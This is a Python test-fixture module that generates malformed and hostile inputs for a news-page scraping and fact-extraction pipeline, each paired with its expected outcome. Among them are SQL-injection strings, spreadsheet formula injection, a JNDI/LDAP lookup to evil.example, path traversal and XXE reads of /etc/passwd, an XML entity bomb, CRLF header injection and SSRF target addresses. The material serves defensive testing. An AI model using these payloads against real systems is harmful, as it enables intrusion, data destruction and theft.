# ruff: noqa: E501 -- tables
"""Hostile messages and pages, made by code: each with the outcome that it must have."""

import random
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import msgspec
from outcomes import EITHER, STORED, Bad

from services.contracts.codec import ARTICLE, FACTS, PAGE
from services.contracts.identity import article_id
from services.contracts.messages import Amount, Article, Entity, Facts, Page, Project

_NOW = datetime(2026, 3, 1, tzinfo=UTC)
_TEXT = (
    "云杉新材料有限公司与临湖高新区签约，总投资12亿元建设铝箔项目，占地200亩，达产后年产值30亿元。"
)
_NEWS = f"<h1>云杉铝箔项目落户临湖高新区</h1><p>{_TEXT}</p><p>{_TEXT[::-1]}</p><p>{_TEXT}</p>"


def url(name: str) -> str:
    """Return the address of a case's page, or of its article."""
    return f"http://hostile.example/{article_id(name, 0)}"


def hostile() -> dict[str, Bad]:
    """Return every case by its name."""
    return {
        name: bad
        for family in (
            _sources, _source_json, _versions, _broken_pages, _encodings, _structures, _characters,
            _numerals, _dates, _injections, _articles, _facts,
        )
        for name, bad in family()
    }  # fmt: skip


Cases = Iterator[tuple[str, Bad]]


def _page(name: str, body: bytes, outcome: str, content_type: str = "text/html") -> tuple[str, Bad]:
    page = Page(url(name), url(name), 200, {"content-type": content_type}, body, _NOW, url(name))
    return name, Bad("pages", PAGE.encode(page), outcome)


def _article(name: str, words: str, **other: Any) -> Article:
    article = Article(
        article_id(url(name), 0), url(name), url(name), "hostile.example", 0, "标题", None, None,
        None, None, (words,), words, "hans", _NOW, "00" * 32, "00" * 8,
    )  # fmt: skip
    return msgspec.structs.replace(article, **other)


def _sources() -> Cases:
    refused = (
        "gopher://a.example/", "javascript:alert(1)", "data:text/html,<p>x", "mailto:a@b.example",
        "ws://a.example/", "jar:http://a.example/x!/y", "view-source:http://a.example/", "http:",
        "http://", "http:///path", "//a.example/", "http://?q", "http://#f", "https://:80/",
        "http://a.example:99999/", "http://a.example:-1/", "http://a.example:0/",
        "http://a.example:port/", "http://user:secret@a.example/", "http://a.example@b.example/",
        "http://[::1/", "http://[zz::1]/", "http://a%2eexample/", "http://a.example\\@b.example/",
        "http://a b.example/", "http://a.example/\tx y\x7f", "http://a.example/\x00",
        "http://a.example/ x\r\nHost: b", "http://" + "a" * 3000 + ".example/",
        "http://a.example/" + "x" * 2100, "http://a.example/" + "云" * 700,
    )  # fmt: skip
    for address in refused:
        yield f"source {address[:40]!r}", Bad("sources", address.encode(), "invalid")
    forbidden = (
        "10.0.0.1", "172.16.0.1", "172.31.255.255", "192.168.1.1", "169.254.169.254", "100.64.0.1",
        "0.0.0.0", "192.0.0.8", "192.0.2.1", "198.18.0.1", "198.51.100.7", "203.0.113.9",
        "224.0.0.1", "240.0.0.1", "255.255.255.255", "192.88.99.1", "0x0a.1", "167772161",
        "012.0.0.1", "[::1]", "[::]", "[fe80::1]", "[fc00::1]", "[fec0::1]", "[ff02::1]",
        "[2001:db8::1]", "[64:ff9b::a00:1]", "[2002:a00:1::]", "[::ffff:10.0.0.1]",
        "[::10.0.0.1]", "[2001::1]", "8.8.8.8:22", "8.8.8.8:25", "[2606:4700::1]:6379",
    )  # fmt: skip
    for host in forbidden:
        yield f"address {host}", Bad("sources", f"http://{host}/".encode(), "unfetchable")


def _source_json() -> Cases:
    good = b'{"url":"http://10.0.0.9/","kind":"list","every":3600,"depth":2,"tags":["a"]}'
    for end in range(1, len(good), 5):
        yield f"source cut at {end}", Bad("sources", good[:end], "undecodable")
    broken: tuple[bytes, ...] = (
        b'{"url":null}', b'{"url":1}', b'{"url":["http://a.example"]}', b"{}", b"[]", b'"x"', b"{" * 9,
        b"[" * 100_000, b'{"url":' * 50_000, b'{"url":"http://a.example","kind":"secret"}',
        b'{"url":"http://a.example","every":"often"}', b'{"url":"http://a.example","every":1e400}',
        b'{"url":"http://a.example","depth":NaN}', b'{"url":"http://a.example","depth":1.5}',
                b'{"url":"http://a.example","tags":"a"}', b'{"url":"http://a.example"} trailing',
        b'{"url":"http://a.example"}{"url":"http://b.example"}', b'{"url":"\\ud800 "}x',
        b'{"url":"http://a.example/\xff"}', b"{'url': 'http://a.example'}",
        msgspec.msgpack.encode({"url": "http://a.example"}), '{"url":"http://a.example"}'.encode("utf-16"),
        b"\xff\xfe\xfd", bytes(1000), b"\xed\xa0\x80", b"http://a.example/\xff",
    )  # fmt: skip
    for number, value in enumerate(broken):
        outcome = "invalid" if value == bytes(1000) else "undecodable"
        yield f"source {number} {value[:40]!r}", Bad("sources", value, outcome)


def _versions() -> Cases:
    headers = ("/0", "/2", "/99", "/-1", "/", "/1.0", "/ 1", "/1 ", "/٣", "/9" + "9" * 30, "")
    for topic, name, value in (
        ("sources", "source", b'{"url":"http://10.0.0.9/v"}'),
        ("pages", "page", PAGE.encode(Page(url("v"), url("v"), 200, {}, b"", _NOW, ""))),
        ("articles", "article", ARTICLE.encode(_article("v", _TEXT))),
        ("facts", "facts", FACTS.encode(Facts(_article("v", _TEXT)))),
    ):
        for version in headers:
            schema = f"parkwire.{name}{version}"
            yield f"schema {schema}", Bad(topic, value, "unknown_schema", schema)
        yield (
            f"schema of another in {topic}",
            Bad(topic, value, "unknown_schema", "parkwire.other/1"),
        )
        yield f"schema without end in {topic}", Bad(topic, value, "unknown_schema", "x" * 5000)


def _broken_pages() -> Cases:
    page = Page(url("p"), url("p"), 200, {"content-type": "text/html"}, b"<p>x", _NOW, url("p"))
    good = PAGE.encode(page)
    for end in range(1, len(good), 20):
        yield f"page cut at {end}", Bad("pages", good[:end], "undecodable")
    fields = msgspec.to_builtins(page, builtin_types=(bytes, datetime))
    for field in fields:
        for wrong in (None, 1.5, [1], {"a": {"b": 1}}):
            value = msgspec.msgpack.encode(fields | {field: wrong})
            yield f"page with {field} {wrong}", Bad("pages", value, "undecodable")
        rest = {name: value for name, value in fields.items() if name != field}
        yield f"page without {field}", Bad("pages", msgspec.msgpack.encode(rest), "undecodable")
    raw = {
        "nested 100,000 deep": b"\x91" * 100_000,
        "maps 100,000 deep": b"\x81\xa1a" * 100_000,
        "an array that claims 4 G": b"\xdd\xff\xff\xff\xff",
        "a map that claims 4 G": b"\xdf\xff\xff\xff\xff",
        "a text that claims 4 G": b"\xdb\xff\xff\xff\xff",
        "bytes that claim 4 G": b"\xc6\xff\xff\xff\xff",
        "an extension": b"\xc7\x05\x01hello",
        "a reserved byte": b"\xc1",
        "a text that is no UTF-8": b"\x81\xa3url\xa2\xff\xfe",
        "JSON": msgspec.json.encode({"url": url("p")}),
        "one byte": b"\x00",
        "noise": random.Random(1).randbytes(5000),
    }
    for name, value in raw.items():
        yield f"page that is {name}", Bad("pages", value, "undecodable")
    more = msgspec.msgpack.encode(fields | {"later": ["unknown"] * 1000, "url": url("later field")})
    yield "later field", Bad("pages", more, EITHER)


def _encodings() -> Cases:
    readable = ("utf-8", "utf-8-sig", "gb2312", "gbk", "gb18030")
    others = (
        "utf-16",
        "utf-16-le",
        "utf-32",
        "hz",
        "iso2022_jp_2",
        "big5hkscs",
        "utf-7",
        "euc_jis_2004",
    )
    declared = ("", "utf-8", "gb2312", "big5", "iso-8859-1", "no-such-charset", "utf-16", "\x00")
    for encoding in (*readable, *others):
        body = _NEWS.encode(encoding, "xmlcharrefreplace")
        for label in declared:
            meta = f'<meta charset="{label}">'.encode() if label else b""
            outcome = STORED if encoding in readable else EITHER
            yield _page(f"{encoding} that says {label!r}", meta + body, outcome)
    yield _page(
        "two charsets at odds",
        b'<meta charset="big5">' + _NEWS.encode(),
        STORED,
        "text/html; charset=gbk",
    )
    yield _page("half UTF-8, half GBK", _NEWS.encode() + _NEWS.encode("gbk"), EITHER)
    yield _page("UTF-8 cut in a character", _NEWS.encode()[:-8], STORED)


def _structures() -> Cases:
    many = 100_000
    bodies = {
        "100,000 empty tags": "<i></i>" * many,
        "100,000 open tags": "<b>" * many,
        "100,000 paragraphs": "<p>云</p>" * many,
        "100,000 links": "<a href=/x>一</a>" * many,
        "formatting that never closes": "<a><b><i><u><p>" * 4000,
        "tables in tables": "<table><tr><td>" * 20_000,
        "lists in lists": "<ul><li>" * 30_000,
        "selects": "<select><option>" * 20_000,
        "forms": "<form><input>" * 20_000,
        "templates": "<template>" * 20_000,
        "svg and math": "<svg><math><mtext>" * 10_000,
        "end tags only": "</div></p></b>" * 30_000,
        "15,000 attributes": "<p " + " ".join(f"a{n}=1" for n in range(15_000)) + ">",
        "the same attribute": "<p " + "class=a " * 50_000 + ">",
        "an attribute of 4 MB": f'<p title="{"云" * 1_400_000}">',
        "an attribute that never ends": '<p title="' + "x" * 1_000_000,
        "a class of 100,000 words": f'<div class="{"content " * many}">',
        "an id of 1 MB": f'<div id="{"a" * 1_000_000}">',
        "a comment that never ends": "<!--" + "x" * 1_000_000,
        "a comment of hyphens": "<!--" + "-" * 1_000_000 + ">",
        "a script that never ends": "<script>" + "var a='</scrip';" * 50_000,
        "a style of 2 MB": "<style>" + "p{}" * 700_000 + "</style>",
        "a title of 1 MB": f"<title>{'云' * 330_000}</title>",
        "a title that never ends": "<title>" + "x" * 500_000,
        "a textarea that never ends": "<textarea>" + "云" * 100_000,
        "plaintext": "<plaintext>" + "<p>云</p>" * 10_000,
        "CDATA": "<![CDATA[" + "x" * 500_000,
        "processing instructions": "<?php echo 1 ?>" * 20_000,
        "doctypes": "<!doctype html>" * 20_000,
        "framesets": "<frameset><frame src=x>" * 5000,
        "bases": '<base href="http://other.example/">' * 5000,
        "metas": '<meta name="description" content="云">' * 20_000,
        "less-than signs": "<" * 1_000_000,
        "ampersands": "&" * 1_000_000,
        "entities": "&amp;" * 200_000,
        "entities without names": "&#x110000;&#xD800;&#0;&#99999999999;" * 10_000,
        "long entities": "&" + "a" * 500_000 + ";",
        "line breaks": "<br>" * many,
        "spaces": " " * 3_000_000,
        "non-breaking spaces": "&nbsp;" * 300_000,
        "data: URIs": f'<img src="data:image/png;base64,{"A" * 2_000_000}">',
        "json-ld that is none": '<script type="application/ld+json">{"a":' * 5000,
        "json-ld 50,000 deep": f'<script type="application/ld+json">{"[" * 50_000}</script>',
        "a script with 5,000 digits": f"<script>x=[{'9' * 5000}]</script>",
        "a script with half a character": '<script>{"title":"云云云云","text":"\\ud800%s"}</script>'
        % ("云" * 50),
        "hidden elements": '<div style="display:none">' * 10_000,
        "iframes": "<iframe srcdoc='<p>x'>" * 10_000,
    }
    for name, body in bodies.items():
        yield _page(f"page of {name}", body.encode(), EITHER)
        if name in {
            "100,000 empty tags",
            "15,000 attributes",
            "a comment of hyphens",
            "entities",
            "metas",
            "end tags only",
        }:
            whole = f"<!doctype html><html><body>{body}{_NEWS}"
            yield _page(f"article after {name}", whole.encode(), EITHER)
    files = {"PDF": b"%PDF-1.7\n", "ZIP": b"PK\x03\x04", "GZIP": b"\x1f\x8b\x08", "ELF": b"\x7fELF", "RTF": b"{\\rtf1", "Word": b"\xd0\xcf\x11\xe0", "WOFF": b"wOF2", "MP4": b"\0\0\0\x18ftypmp42", "XML": b"<?xml version='1.0'?>", "RSS": b"<rss><channel>", "JSON": b"{}"}  # fmt: skip
    for name, magic in files.items():
        yield _page(
            f"a {name} that calls itself HTML", magic + random.Random(2).randbytes(3000), EITHER
        )
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "'
        + "ha" * 50
        + '">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]><l>&j;</l>"
    )
    yield _page("a billion laughs", bomb.encode(), EITHER, "application/xml")
    yield _page(
        "an outer entity",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        EITHER,
        "application/xml",
    )


def _characters() -> Cases:
    inserted = {
        "NULs": "\0", "lone surrogates": "&#xD800;", "right-to-left marks": "\u202e", "zero widths": "\u200b\u200d",
        "byte order marks": "\ufeff", "non-characters": "\uffff\ufdd0", "private use": "\ue000", "controls": "\x01\x08\x0b\x1b",
        "C1 controls": "\x80\x9f", "line separators": "\u2028\u2029", "combining marks": "\u0301" * 500, "astral": "𠮷😀",
        "tags": "\U000e0041", "soft hyphens": "\u00ad", "ideographic spaces": "\u3000", "variation selectors": "\ufe0f" * 50,
    }  # fmt: skip
    for name, characters in inserted.items():
        # Control characters say that it is no text.
        outcome = EITHER if name == "controls" else STORED
        yield _page(f"text with {name}", _NEWS.replace("亿", f"{characters}亿").encode(), outcome)
        yield _page(
            f"title with {name}", _NEWS.replace("<h1>", f"<h1>{characters}").encode(), STORED
        )
    raw = {
        "CESU-8 surrogates": b"\xed\xa0\x80\xed\xb0\x80",
        "overlong": b"\xc0\xaf\xe0\x80\xaf",
        "five bytes": b"\xf8\x88\x80\x80\x80",
        "stray bytes": b"\x80\xbf\xfe\xff",
    }
    for name, octets in raw.items():
        yield _page(f"bytes of {name}", _NEWS.encode().replace("，".encode(), octets, 1), EITHER)


def _numerals() -> Cases:
    numerals = (
        "9" * 5000, "0" * 5000 + "1", "一" * 5000, "亿" * 5000, "千千千万万", "万亿亿万", "零零零", "1e999999",
        "1E-400", "0x10", "１２３", "٣٤", "½", "²", "Ⅻ", "①", "㊀", "壹佰贰拾", "廿", "∞", "NaN", "-0", "+-1",
        "1,2,3,4,5", "1,000,00,0", "1.2.3.4", ".", "..5", "5.", "1/0", "1/3", "百分之百分之", "3-2-1", "5至3",
        "9～1～9", "约近超逾", "不到不足", "1" + ",000" * 1500, "1." + "0" * 5000 + "1", "一点" * 2000, "几十百千",
        "数" * 2000, "十百千万亿", "负一", "9" * 308, "9" * 309 + ".9", "一千零零零一", "两两两", "〇" * 500,
    )  # fmt: skip
    for number, numeral in enumerate(numerals):
        text = f"云杉公司总投资{numeral}亿元，占地{numeral}亩，增长{numeral}%，建设{numeral}个车间，{numeral}年{numeral}月{numeral}日投产。"
        article = _article(f"numeral {number}", f"{text}\n{_TEXT}")
        yield (
            f"numeral {number} {numeral[:20]!r}",
            Bad("articles", ARTICLE.encode(article), STORED, at=article.url),
        )


def _dates() -> Cases:
    dates = (
        "9999-99-99", "0000-00-00", "2024-02-30", "2024年13月1日", "2024-1-1 25:61", "1-1-1", "99999年1月1日", "二〇二四年二月三十日",
        "２０２４年１月１日", "2024/00/10", "昨天", "-5年前", "99999999999天前", "2024-01-01T99:99:99+99:99", "1700000000000000000",
        "2024年2月29日" * 1000, "公元前5年", "2024-W60-9", "民国113年1月1日", "0001-01-01 00:00",
    )  # fmt: skip
    for date in dates:
        body = _NEWS.replace(
            "</h1>", f'</h1><div class="info"><span class="date">{date}</span> 来源：临湖日报</div>'
        )
        meta = f'<meta property="article:published_time" content="{date}">'
        yield _page(f"date {date[:30]!r}", (meta + body).encode(), STORED)
    for date in dates:
        article = _article(
            f"text date {date[:30]}",
            f"{date}，{_TEXT}\n截至{date}，{_TEXT}\n{date}至{date}，实现地区生产总值5亿元。",
        )
        yield (
            f"text date {date[:30]!r}",
            Bad("articles", ARTICLE.encode(article), STORED, at=article.url),
        )


INJECTIONS = (
    "'; DROP TABLE parkwire.article; --", "' OR '1'='1", "$1", "%s%n", "\\'; SELECT pg_sleep(60); --", "$$; DROP SCHEMA parkwire CASCADE; $$",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-1+1", "@SUM(1)", "\tx", "<script>alert(1)</script>",
    "[red]markup[/red]", "\x1b[31mred\x1b[0m", "{{7*7}}", "${jndi:ldap://evil.example/a}", "{0.__class__}", "../../../etc/passwd", "\r\nSet-Cookie: a=b",
)  # fmt: skip
"""Texts that mean something to SQL, to spreadsheets, to terminals, to templates."""


def _injections() -> Cases:
    for text in INJECTIONS:
        name = f"injection {text[:30]!r}"
        source = f"临湖{text}日报"
        article = _article(name, f"{text}\n{_TEXT}", title=text, source=source, author=text)
        yield name, Bad("articles", ARTICLE.encode(article), STORED, at=article.url)


def _articles() -> Cases:
    good = ARTICLE.encode(_article("a", _TEXT))
    for end in range(1, len(good), 60):
        yield f"article cut at {end}", Bad("articles", good[:end], "undecodable")
    wrong: dict[str, tuple[dict[str, Any], str]] = {
        "NUL in the title": ({"title": "a\0b"}, "unstorable"),
        "a negative ordinal": ({"ordinal": -1}, "unstorable"),
        "an ordinal of 2^40": ({"ordinal": 2**40}, "unstorable"),
        "an id that is none": ({"id": "x"}, "unstorable"),
        "a time without zone": ({"fetched_at": datetime(2026, 1, 1)}, "unstorable"),
        "a time of year 1": ({"published_at": datetime(1, 1, 1, tzinfo=UTC), "published_precision": "day"}, "unstorable"),
        "a time of year 9999": ({"published_at": datetime(9999, 12, 31, 23, tzinfo=UTC), "published_precision": "day"}, "unstorable"),
        "another text than its paragraphs": ({"paragraphs": ("x",) * 1000}, STORED),
        "text of 400 KB": ({"text": "临湖" * 70_000}, STORED),
        "a line of 50,000 digits": ({"text": "7" * 50_000 + "元"}, STORED),
        "5,000 amounts": ({"text": "投资5亿元，" * 5000}, STORED),
        "20,000 short lines": ({"text": "云\n" * 20_000}, STORED),
        "brackets 100,000 deep": ({"text": "（" * 100_000}, STORED),
        "quotes that never close": ({"text": "“" * 50_000 + _TEXT}, STORED),
    }  # fmt: skip
    for name, (changes, outcome) in wrong.items():
        article = _article(f"article with {name}", _TEXT, **changes)
        yield (
            f"article with {name}",
            Bad("articles", ARTICLE.encode(article), outcome, at=article.url),
        )
    surrogate = good.replace("标题".encode(), b"\\ud800")
    yield "article with a lone surrogate", Bad("articles", surrogate, "undecodable")
    yield "article 100,000 deep", Bad("articles", b'{"id":' + b"[" * 100_000, "undecodable")
    yield "article twice in one", Bad("articles", good + good, "undecodable")


def _facts() -> Cases:
    broken: dict[str, tuple[dict[str, Any], str]] = {
        "an offset below 0": ({"entities": (Entity("park", "x", -1, 2, "x"),)}, "unstorable"),
        "offsets that cross": ({"amounts": (Amount("x", 5, 2, "money", 1, 1, "CNY"),)}, "unstorable"),
        "an empty span": ({"entities": (Entity("park", "", 3, 3, ""),)}, "unstorable"),
        "an offset of 2^40": ({"entities": (Entity("park", "x", 0, 2**40, "x"),)}, "unstorable"),
        "bounds that cross": ({"amounts": (Amount("x", 0, 2, "money", 9, 1, "CNY"),)}, "unstorable"),
        "NUL in a name": ({"entities": (Entity("park", "x", 0, 2, "a\0"),)}, "unstorable"),
        "a period of month 13": ({"amounts": (Amount("x", 0, 2, "money", 1, 1, "CNY", period="2024-13"),)}, "unstorable"),
        "a period that is none": ({"amounts": (Amount("x", 0, 2, "money", 1, 1, "CNY", period="soon"),)}, "unstorable"),
        "a period backwards": ({"amounts": (Amount("x", 0, 2, "money", 1, 1, "CNY", period="2024/2020"),)}, "unstorable"),
        "a project of no date": ({"projects": (Project("project", "x", date="2024-02-30"),)}, "unstorable"),
        "a project's bounds that cross": ({"projects": (Project("project", "x", amount_low=9, amount_high=1),)}, "unstorable"),
        "NUL in an investor": ({"projects": (Project("project", "x", investors=("a\0",)),)}, "unstorable"),
        "5,000 mentions": ({"entities": (Entity("park", "x", 0, 2, "x"),) * 5000}, STORED),
        "a name of 1 MB": ({"entities": (Entity("park", "x", 0, 2, "云" * 330_000),)}, "unstorable"),
        "10,000 investors": ({"projects": (Project("project", "x", investors=("云杉",) * 10_000),)}, STORED),
        "evidence of 10,000 spans": ({"projects": (Project("project", "x", evidence=((0, 1),) * 10_000),)}, STORED),
    }  # fmt: skip
    for name, (parts, outcome) in broken.items():
        article = _article(f"facts with {name}", _TEXT)
        facts = Facts(article, **parts)
        yield f"facts with {name}", Bad("facts", FACTS.encode(facts), outcome, at=article.url)
    good = FACTS.encode(
        Facts(_article("f", _TEXT), amounts=(Amount("x", 0, 2, "money", 1.0, 1.0, "CNY"),))
    )
    for old, new in (
        (b'"money"', b'"gold"'),
        (b'"CNY"', b"null"),
        (b'"low":1.0', b'"low":NaN'),
        (b'"low":1.0', b'"low":1e999'),
        (b'"start":0', b'"start":"0"'),
    ):
        assert old in good
        yield f"facts with {new!r}", Bad("facts", good.replace(old, new), "undecodable")
